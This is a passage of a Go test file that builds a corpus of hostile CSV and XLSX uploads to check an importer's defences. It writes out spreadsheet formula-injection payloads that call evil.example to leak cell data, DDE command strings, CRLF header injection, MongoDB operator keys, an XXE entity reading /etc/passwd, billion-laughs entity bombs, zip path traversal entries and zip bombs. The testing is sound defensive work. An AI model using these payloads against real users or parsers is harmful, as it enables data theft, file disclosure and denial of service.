			check: func(t *testing.T, s *system, v ingest.ImportView) {
				if v.Source != "passwd" {
					t.Errorf("source %q, want passwd", v.Source)
				}
			}},
		{name: "schema is a path", gen: literal(simple), send: "f.csv", fields: map[string]string{"schema": "../../etc/passwd"}, status: 400, errMsg: "unknown schema"},
		{name: "mode is an operator", gen: literal(simple), send: "f.csv", fields: map[string]string{"mode": "$where"}, status: 400, errMsg: "unknown mode"},
		{name: "key is an operator", gen: literal(simple), send: "f.csv", fields: map[string]string{"key": "$where"}, status: 400, errMsg: "is not allowed"},
		{name: "delimiter is NUL", gen: literal(simple), send: "f.csv", fields: map[string]string{"delimiter": "\x00"}, status: 400, errMsg: "unknown delimiter"},
		{name: "format is unknown", gen: literal(simple), send: "f.csv", fields: map[string]string{"format": "exe"}, status: 400, errMsg: "unknown format"},
		{name: "dry_run is not a boolean", gen: literal(simple), send: "f.csv", fields: map[string]string{"dry_run": "1; DROP TABLE"}, status: 400, errMsg: "dry_run"},
		{name: "sheet is a path", file: "xlsx_formulas.xlsx", fields: map[string]string{"sheet": "../../etc/passwd"}, status: 400, errMsg: `the workbook has no sheet "../../etc/passwd"`},
	}
}

func literal(s string) func(io.Writer) error {
	return func(w io.Writer) error { _, err := io.WriteString(w, s); return err }
}

// repeat writes s n times.
func repeat(w io.Writer, s string, n int) error {
	block := strings.Repeat(s, max(1, (64<<10)/max(1, len(s))))
	per := len(block) / len(s)
	for n > 0 {
		k := min(n, per)
		if _, err := io.WriteString(w, block[:k*len(s)]); err != nil {
			return err
		}
		n -= k
	}
	return nil
}

func genDuplicates(w io.Writer) error {
	if _, err := io.WriteString(w, "name,email\n"); err != nil {
		return err
	}
	for i := 0; i < 10000; i++ {
		if _, err := fmt.Fprintf(w, "Dup %d,dup@hostile.test\n", i); err != nil {
			return err
		}
	}
	return nil
}

// filled writes head, then filler n times, then tail: the shape of most
// hostile files (a huge cell, header or run of empty lines between two
// ordinary pieces).
func filled(head, filler string, n int, tail string) func(io.Writer) error {
	return func(w io.Writer) error {
		if _, err := io.WriteString(w, head); err != nil {
			return err
		}
		if err := repeat(w, filler, n); err != nil {
			return err
		}
		_, err := io.WriteString(w, tail)
		return err
	}
}

func genRowsNearCellLimit(w io.Writer) error {
	if _, err := io.WriteString(w, "name,email,notes\n"); err != nil {
		return err
	}
	for i := 0; i < 12; i++ {
		if _, err := fmt.Fprintf(w, "Near %d,near%d@hostile.test,", i, i); err != nil {
			return err
		}
		if err := repeat(w, "n", 1_000_000); err != nil {
			return err
		}
		if _, err := io.WriteString(w, "\n"); err != nil {
			return err
		}
	}
	return nil
}

// The workbook relationships with a shared-strings part too.
const (
	xWorkbookRelsSST = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`
)

type zpart struct{ name, data string }

func zipOf(parts ...zpart) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, p := range parts {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: p.name, Method: zip.Deflate, Modified: time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)})
		if err != nil {
			panic(err)
		}
		_, _ = io.WriteString(w, p.data)
	}
	if err := zw.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

func workbookParts(sheet string, extra ...zpart) []zpart {
	return append([]zpart{
		{"[Content_Types].xml", xlsxtest.ContentTypes},
		{"_rels/.rels", xlsxtest.Rels},
		{"xl/workbook.xml", xlsxtest.Workbook},
		{"xl/_rels/workbook.xml.rels", xlsxtest.WorkbookRels},
		{"xl/worksheets/sheet1.xml", xlsxtest.SheetHead + sheet + xlsxtest.SheetTail},
	}, extra...)
}

// streamWorkbook writes a workbook whose sheet is written by sheet, as a
// stream (the sheet is never held in memory).
func streamWorkbook(w io.Writer, sheet func(io.Writer) error) error {
	zw := zip.NewWriter(w)
	if err := xlsxtest.WriteFrame(zw); err != nil {
		return err
	}
	zw.RegisterCompressor(zip.Deflate, func(out io.Writer) (io.WriteCloser, error) { return flate.NewWriter(out, flate.BestSpeed) })
	fw, err := zw.Create("xl/worksheets/sheet1.xml")
	if err != nil {
		return err
	}
	bw := bufio.NewWriterSize(fw, 64<<10)
	if _, err := io.WriteString(bw, xlsxtest.SheetHead); err != nil {
		return err
	}
	if err := sheet(bw); err != nil {
		return err
	}
	if _, err := io.WriteString(bw, xlsxtest.SheetTail); err != nil {
		return err
	}
	if err := bw.Flush(); err != nil {
		return err
	}
	return zw.Close()
}

func genXLSXLongCell(w io.Writer) error {
	return streamWorkbook(w, func(w io.Writer) error {
		if _, err := io.WriteString(w, xlsxtest.InlineRow(1, "name", "email")+xlsxtest.InlineRow(2, "Before", "xc1@hostile.test")+`<row r="3"><c r="A3" t="inlineStr"><is><t>`); err != nil {
			return err
		}
		if err := repeat(w, "A", 50<<20); err != nil {
			return err
		}
		_, err := io.WriteString(w, `</t></is></c><c r="B3" t="inlineStr"><is><t>xc2@hostile.test</t></is></c></row>`+xlsxtest.InlineRow(4, "After", "xc3@hostile.test"))
		return err
	})
}

func genXLSXEmptyRows(w io.Writer) error {
	return streamWorkbook(w, func(w io.Writer) error {
		if _, err := io.WriteString(w, xlsxtest.InlineRow(1, "name", "email")); err != nil {
			return err
		}
		for r := 2; r <= 1_000_001; r++ {
			if _, err := fmt.Fprintf(w, `<row r="%d"/>`, r); err != nil {
				return err
			}
		}
		_, err := io.WriteString(w, xlsxtest.InlineRow(1_000_002, "Last", "xe1@hostile.test"))
		return err
	})
}

// genSharedStringsBomb writes a workbook whose shared-strings table has
// 3.9 million one-letter entries.
func genSharedStringsBomb(w io.Writer) error {
	zw := zip.NewWriter(w)
	parts := workbookParts(`<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2" t="s"><v>1</v></c></row>`)
	parts[3].data = xWorkbookRelsSST
	for _, p := range parts {
		fw, err := zw.Create(p.name)
		if err != nil {
			return err
		}
		if _, err := io.WriteString(fw, p.data); err != nil {
			return err
		}
	}
	fw, err := zw.Create("xl/sharedStrings.xml")
	if err != nil {
		return err
	}
	bw := bufio.NewWriterSize(fw, 64<<10)
	if _, err := io.WriteString(bw, `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>email</t></si>`); err != nil {
		return err
	}
	if err := repeat(bw, `<si><t>a</t></si>`, 3_900_000); err != nil {
		return err
	}
	if _, err := io.WriteString(bw, `</sst>`); err != nil {
		return err
	}
	if err := bw.Flush(); err != nil {
		return err
	}
	return zw.Close()
}

// genManyUsernames writes persons rows: one with 100,000 usernames (about
// 800 KB), one with 101, and a plain one.
func genManyUsernames(w io.Writer) error {
	names := func(n int) string {
		parts := make([]string, n)
		for i := range parts {
			parts[i] = fmt.Sprintf("u%d", i)
		}
		return strings.Join(parts, ",")
	}
	_, err := io.WriteString(w, "slashid:emails,slashid:usernames\n"+
		`,"`+names(100000)+"\"\n"+
		`,"`+names(101)+"\"\n"+
		"mu1@hostile.test,mu1\n")
	return err
}

func genManyParts(w io.Writer) error {
	zw := zip.NewWriter(w)
	parts := workbookParts(xlsxtest.InlineRow(1, "name", "email") + xlsxtest.InlineRow(2, "Parts", "parts@hostile.test"))
	for i := 0; i < 10000; i++ {
		parts = append(parts, zpart{fmt.Sprintf("xl/media/part%d.xml", i), "<x/>"})
	}
	for _, p := range parts {
		fw, err := zw.Create(p.name)
		if err != nil {
			return err
		}
		if _, err := io.WriteString(fw, p.data); err != nil {
			return err
		}
	}
	return zw.Close()
}

// genBomb writes a workbook whose sheet unpacks to size bytes of rows while
// the file stays a few hundred times smaller; declared (if not 0) is the size the
// archive claims.
func genBomb(size, declared uint64) func(io.Writer) error {
	return func(w io.Writer) error { return xlsxtest.WriteBomb(w, size, declared) }
}

// ---- the committed files ----

// hostileFiles returns the committed cases of testdata/hostile.
func hostileFiles() map[string][]byte {
	csvOf := func(rows ...[]string) []byte {
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		_ = w.WriteAll(rows)
		return b.Bytes()
	}
	var pngBuf bytes.Buffer
	_ = png.Encode(&pngBuf, image.NewGray(image.Rect(0, 0, 2, 2)))

	var nulLate bytes.Buffer
	nulLate.WriteString("name,email\n")
	for i := 0; i < 300; i++ {
		fmt.Fprintf(&nulLate, "Late Row %d,late%d@hostile.test\n", i, i)
	}
	nulLate.WriteString("Nul\x00Byte,late-nul@hostile.test\nLast,late-last@hostile.test\n")

	wide := "name,email\nWide,wide1@hostile.test" + strings.Repeat(",x", 999) + "\nOk,wide2@hostile.test\n"

	deepObj := strings.Repeat(`{"a":`, 10000) + "1" + strings.Repeat("}", 10000)
	deepArr := `{"a":` + strings.Repeat("[", 10000) + strings.Repeat("]", 10000) + "}"
	deepOpen := `{"a":` + strings.Repeat("[{", 5000)

	laughs := `<!DOCTYPE lolz [<!ENTITY lol "lol">` +
		`<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">`
	for i := 2; i <= 9; i++ {
		laughs += fmt.Sprintf(`<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
	}
	laughs += `]>`
	withDoctype := func(xml, doctype string) string {
		i := strings.Index(xml, "?>") + 2
		return xml[:i] + doctype + xml[i:]
	}
	sstParts := func(doctype, text string) []zpart {
		return []zpart{
			{"[Content_Types].xml", xlsxtest.ContentTypes},
			{"_rels/.rels", xlsxtest.Rels},
			{"xl/workbook.xml", xlsxtest.Workbook},
			{"xl/_rels/workbook.xml.rels", xWorkbookRelsSST},
			{"xl/sharedStrings.xml", withDoctype(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+
				`<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2" uniqueCount="2"><si><t>email</t></si><si><t>`+text+`</t></si></sst>`, doctype)},
			{"xl/worksheets/sheet1.xml", xlsxtest.SheetHead + `<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c><c r="B1" t="s"><v>0</v></c></row>` +
				`<row r="2"><c r="A2" t="s"><v>1</v></c><c r="B2" t="inlineStr"><is><t>bls@hostile.test</t></is></c></row>` + xlsxtest.SheetTail},
		}
	}

	truncated := zipOf(workbookParts(xlsxtest.InlineRow(1, "name", "email") + xlsxtest.InlineRow(2, "Trunc", "trunc@hostile.test") +
		xlsxtest.InlineRow(3, strings.Repeat("padding ", 200), "trunc2@hostile.test"))...)
	truncated = truncated[:len(truncated)/2]

	return map[string][]byte{
		"empty.csv":        {},
		"bom_only.csv":     []byte("\xef\xbb\xbf"),
		"header_only.csv":  []byte("name,email,phone,company\r\n"),
		"blank_header.csv": []byte(",,,\nAnn,blank@hostile.test,,\n"),
		"really_png.csv":   pngBuf.Bytes(),
		"nul_early.csv":    []byte("name,email\nA\x00nn,nul@hostile.test\n"),
		"nul_late.csv":     nulLate.Bytes(),
		"invalid_utf8.csv": []byte("name,email,company\n" +
			"Zoë Ñúñez-Ångström,utf1@hostile.test,Café Crème\n" +
			"Caf\xe9 Bar,utf2@hostile.test,Stra\xdfe\n" +
			"Bad \xff\xfe,utf3@hostile.test,\xc3\x28x\n"),
		"really_csv.xlsx":      []byte("name,email\nReally Csv,rc1@hostile.test\n"),
		"unbalanced_quote.csv": []byte("name,email\nAnn,uq1@hostile.test\n\"Eve,uq2@hostile.test\nFay,uq3@hostile.test\n"),
		"mixed_delimiters.csv": []byte("name,email,company\nAnn;md1@hostile.test;Acme\nBob\tmd2@hostile.test\tBeta\nCid|md3@hostile.test|Gamma\nDee,md4@hostile.test,Delta\n"),
		"wide_row.csv":         []byte(wide),
		"crlf_injection.csv": []byte("name,email,company\r\n" +
			"\"Ann\r\nSet-Cookie: evil=1\",crlf1@hostile.test,\"Acme\r\n\r\nHTTP/1.1 200 OK\"\r\n" +
			"Bob,\"crlf2@hostile.test\r\nBcc: victim@example.com\",\r\n" +
			"Cid\rX-Injected: 1,crlf3@hostile.test,\r\n"),
		"whitespace_cells.csv": []byte("name,email,phone,company\n" +
			"   ,ws1@hostile.test,  ,\t\n" +
			"Only Spaces,\" \t \",,\n" +
			"Nbsp\u00a0,\u00a0ws3@hostile.test\u00a0,,\u3000\n"),
		"formulas.csv": csvOf(
			[]string{"name", "email", "phone", "company"},
			[]string{`=HYPERLINK("http://evil.example/?leak="&A1,"click")`, "f1@hostile.test", "", ""},
			[]string{`+cmd|' /C calc'!A0`, "f2@hostile.test", "", ""},
			[]string{`@SUM(1+1)*cmd|' /C calc'!A0`, "f3@hostile.test", "", ""},
			[]string{`-2+3+cmd|' /C calc'!A0`, "f4@hostile.test", "", ""},
			[]string{"\t=1+1", "f5@hostile.test", "", ""},
			[]string{"\r=2+2", "f6@hostile.test", "", ""},
			[]string{`=DDE("cmd";"/C calc";"!A0")`, "f7@hostile.test", "", `=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")`},
			[]string{"Formula Email", "=cmd@hostile.test", "", ""},
			[]string{"Bad Phone", "f9@hostile.test", `=HYPERLINK("http://evil.example","x")`, ""},
		),
		"homoglyph_emails.csv": []byte("name,email\n" +
			"Latin,ann@homoglyph.test\n" +
			"Cyrillic a,\u0430nn@homoglyph.test\n" +
			"Cyrillic o in the domain,ann@h\u043emoglyph.test\n" +
			"Fullwidth,\uff21\uff2e\uff2e@homoglyph.test\n" +
			"Upper case,ANN@homoglyph.test\n" +
			"Zero-width space,ann\u200b@homoglyph.test\n" +
			"Zero-width joiner,ann@homoglyph.test\u200d\n"),
		"rtl_override.csv": []byte("name,email,company\n" +
			"\u202eevil.exe\u202c Ann,rtl1@hostile.test,\u2067Acme\u2069\n" +
			"RTL Email,rtl\u202e2@hostile.test,\n" +
			"Isolate Email,\u2066rtl3@hostile.test\u2069,\n"),
		"mongo_headers.csv": []byte("$where,a.b,,_id,_intake,e.mail,$name,constructor,__proto__,$set\n" +
			"sleep(1000),ab,empty,forged-id,forged-stamp,mh1@hostile.test,Mongo Header,c,p,x1\n"),
		"persons_json_keys.csv": csvOf(
			[]string{"slashid:emails", "slashid:attributes"},
			[]string{"pj1@hostile.test", `{"app":{"$where":"sleep(1000)"}}`},
			[]string{"pj2@hostile.test", `{"a.b":{"v":1}}`},
			[]string{"pj3@hostile.test", `{"":{"v":1}}`},
			[]string{"pj4@hostile.test", `{"nested":{"$gt":""}}`},
			[]string{"pj5@hostile.test", `{"_id":{"v":"x"},"__proto__":{"polluted":true},"constructor":{"prototype":1}}`},
			[]string{"pj6@hostile.test", `{"a":{"b\u0000c":1}}`},
			[]string{"pj7@hostile.test", `{"k":{"v":1},"k":{"v":2}}`},
			[]string{"pj8@hostile.test", `{"list":{"items":[{"$x":1}]}}`},
		),
		"json_deep.csv": csvOf(
			[]string{"slashid:emails", "slashid:attributes"},
			[]string{"pjd1@hostile.test", deepObj},
			[]string{"pjd2@hostile.test", deepArr},
			[]string{"pjd3@hostile.test", deepOpen},
		),
		"huge_numbers_customers.csv": csvOf(
			[]string{"name", "email", "phone", "external_id", "notes"},
			[]string{"Ann", "hn1@hostile.test", "99999999999999999999999", "", ""},
			[]string{"Bob", "hn2@hostile.test", "1e999", "", ""},
			[]string{"Cid", "hn3@hostile.test", "", "99999999999999999999999", ""},
			[]string{"Dee", "hn4@hostile.test", "", "1e999", "-1e400"},
			[]string{"Eve", "hn5@hostile.test", "+99999999999999999999999999999999999999999", "", ""},
			[]string{"Fay", "hn6@hostile.test", "NaN", "", ""},
			[]string{"Gus", "hn7@hostile.test", "-Infinity", "", ""},
			[]string{"Hal", "hn8@hostile.test", "0x7FFFFFFFFFFFFFFF", "", ""},
		),
		"huge_numbers_persons.csv": csvOf(
			[]string{"slashid:emails", "slashid:phone_numbers", "slashid:attributes"},
			[]string{"hp1@hostile.test", "", `{"n":{"v":1e999}}`},
			[]string{"hp2@hostile.test", "", `{"n":{"v":99999999999999999999999}}`},
			[]string{"hp3@hostile.test", "", `{"n":{"v":-1e400}}`},
			[]string{"hp4@hostile.test", "", `{"n":{"v":1e-400}}`},
			[]string{"hp5@hostile.test", "99999999999999999999999", `{}`},
			[]string{"hp6@hostile.test", "", `{"n":{"v":9007199254740993}}`},
		),
		"truncated.xlsx": truncated,
		"zip_traversal.xlsx": zipOf(workbookParts(xlsxtest.InlineRow(1, "name", "email")+xlsxtest.InlineRow(2, "Zip Traversal", "zt1@hostile.test"),
			zpart{"../../etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"},
			zpart{"/tmp/hostile-abs.txt", "absolute"},
			zpart{`..\..\hostile-win.txt`, "backslashes"},
			zpart{"xl/../../../hostile-escape.xml", "<x/>"},
		)...),
		"zip_not_workbook.xlsx":   zipOf(zpart{"../../etc/passwd", "root:x:0:0\n"}, zpart{"../evil.sh", "#!/bin/sh\n"}),
		"billion_laughs_sst.xlsx": zipOf(sstParts(laughs, "&lol9;")...),
		"billion_laughs_sheet.xlsx": zipOf(append(workbookParts("")[:4:4],
			zpart{"xl/worksheets/sheet1.xml", withDoctype(xlsxtest.SheetHead, laughs) + xlsxtest.InlineRow(1, "name", "email") + xlsxtest.InlineRow(2, "&lol9;", "bl1@hostile.test") + xlsxtest.SheetTail})...),
		"xxe.xlsx": zipOf(append(workbookParts("")[:4:4],
			zpart{"xl/worksheets/sheet1.xml", withDoctype(xlsxtest.SheetHead, `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`) +
				xlsxtest.InlineRow(1, "name", "email") + xlsxtest.InlineRow(2, "&xxe;", "xxe1@hostile.test") + xlsxtest.SheetTail})...),
		"xlsx_formulas.xlsx": zipOf(workbookParts(xlsxtest.InlineRow(1, "name", "email", "company") +
			`<row r="2"><c r="A2" t="str"><f>HYPERLINK("http://evil.example/?"&amp;B2,"click")</f><v>click</v></c>` +
			`<c r="B2" t="inlineStr"><is><t>xf1@hostile.test</t></is></c><c r="C2" t="inlineStr"><is><t>=cmd|' /C calc'!A0</t></is></c></row>` +
			`<row r="3"><c r="A3"><f>1+1</f></c><c r="B3" t="inlineStr"><is><t>xf2@hostile.test</t></is></c><c r="C3" t="inlineStr"><is><t>@SUM(1+1)</t></is></c></row>`)...),
		"xlsx_wide_header.xlsx": zipOf(workbookParts(`<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c><c r="B1" t="inlineStr"><is><t>email</t></is></c>` +
			`<c r="XFD1" t="inlineStr"><is><t>far</t></is></c></row>` + xlsxtest.InlineRow(2, "Wide", "xw1@hostile.test"))...),
	}
}

// The committed corpus is what hostileFiles builds; INTAKE_WRITE_HOSTILE=1
// rewrites it.
func TestHostileCorpusFiles(t *testing.T) {
	files := hostileFiles()
	if os.Getenv("INTAKE_WRITE_HOSTILE") == "1" {
		if err := os.MkdirAll(hostileDir, 0o755); err != nil {
			t.Fatal(err)
		}
		for name, data := range files {
			if err := os.WriteFile(filepath.Join(hostileDir, name), data, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	used := map[string]bool{}
	for _, c := range hostileCases() {
		if c.file != "" {
			used[c.file] = true
		}
	}
	for name, data := range files {
		got, err := os.ReadFile(filepath.Join(hostileDir, name))
		if err != nil || !bytes.Equal(got, data) {
			t.Errorf("%s differs from what hostileFiles builds (INTAKE_WRITE_HOSTILE=1 rewrites it): %v", name, err)
		}
		if !used[name] {
			t.Errorf("%s is used by no case", name)
		}
	}
	entries, _ := os.ReadDir(hostileDir)
	for _, e := range entries {
		if _, ok := files[e.Name()]; !ok && e.Name() != "README.md" {
			t.Errorf("%s is in %s but not built by hostileFiles", e.Name(), hostileDir)
		}
	}
}
